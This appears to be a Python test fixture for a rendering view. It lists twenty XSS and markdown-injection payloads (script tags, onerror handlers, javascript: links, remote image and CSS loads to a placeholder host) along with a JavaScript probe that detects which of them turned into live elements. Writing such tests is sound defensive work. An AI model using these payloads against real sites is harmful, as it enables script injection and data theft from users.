"""Twenty texts that would run a script or fetch something if any view took them for markup."""

PAYLOADS = (
    "<script>window.pwn=1;fetch('https://gone.invalid/1')</script>",
    '<img src=x onerror="window.pwn=2">',
    "<svg/onload=window.pwn=3><desc>probe</desc></svg>",
    "<iframe srcdoc='<script>parent.pwn=4</script>'></iframe>",
    "[press here](javascript:window.pwn=5)",
    "![picture](https://gone.invalid/6.png?said=all)",
    "<details open ontoggle=window.pwn=7><summary>more</summary></details>",
    "<input autofocus onfocus=window.pwn=8 value=probe>",
    "<video><source src=https://gone.invalid/9 onerror=window.pwn=9></video>",
    "<link rel=stylesheet href=https://gone.invalid/10.css>",
    "<style>@import 'https://gone.invalid/11.css';body{background:url(//gone.invalid/11)}</style>",
    '"><b onmouseover=window.pwn=12 style=position:fixed;inset:0>over</b>',
    "</textarea></title></script><script>window.pwn=13</script>",
    "<math><mtext><mglyph><style><img src=x onerror=window.pwn=14></style></mglyph></mtext></math>",
    "<form action=https://gone.invalid/15><button formaction=javascript:window.pwn=15>go</button>",
    "<object data=https://gone.invalid/16></object><embed src=https://gone.invalid/16>",
    "<meta http-equiv=refresh content='0;url=https://gone.invalid/17'>",
    "<base href=https://gone.invalid/18/><a href=x onclick=window.pwn=18>link</a>",
    "[![inner](https://gone.invalid/19.png)](data:text/html,<script>opener.pwn=19</script>)",
    "https://gone.invalid/20 :red[$\\href{javascript:window.pwn=20}{x}$] ${window.pwn=20}",
)

HARMLESS = """() => {
  const found = [];
  const odd = /invalid|javascript:|data:text/i;
  const look = (root) => {
    for (const one of root.querySelectorAll("*")) {
      for (const attribute of one.attributes) {
        const address = ["src", "href", "srcset", "data", "action", "formaction", "poster"];
        const name = attribute.name.toLowerCase();
        const ran = name.startsWith("on") || name === "srcdoc" || name === "http-equiv";
        const led = address.includes(name) && odd.test(attribute.value);
        if ((ran && one.tagName !== "META") || led) found.push(one.outerHTML.slice(0, 200));
      }
      if (one.shadowRoot) look(one.shadowRoot);
    }
  };
  look(document);
  const styles = [...document.querySelectorAll("style")].map((one) => one.textContent).join();
  if (styles.includes("gone.invalid")) found.push("style");
  return {found, pwn: window.pwn === undefined ? "undefined" : String(window.pwn)};
}"""
"""Run in a page: elements that a payload became, and what it left behind in the window."""

UNFOLD = 'document.querySelectorAll("details:not([open]) > summary").forEach((one) => one.click())'


def with_payloads(sentence: str) -> str:
    """Return a text with a line for each payload; `sentence` has places for number and payload."""
    return "\n\n".join(
        sentence.format(number=number, payload=payload)
        for number, payload in enumerate(PAYLOADS, start=1)
    )
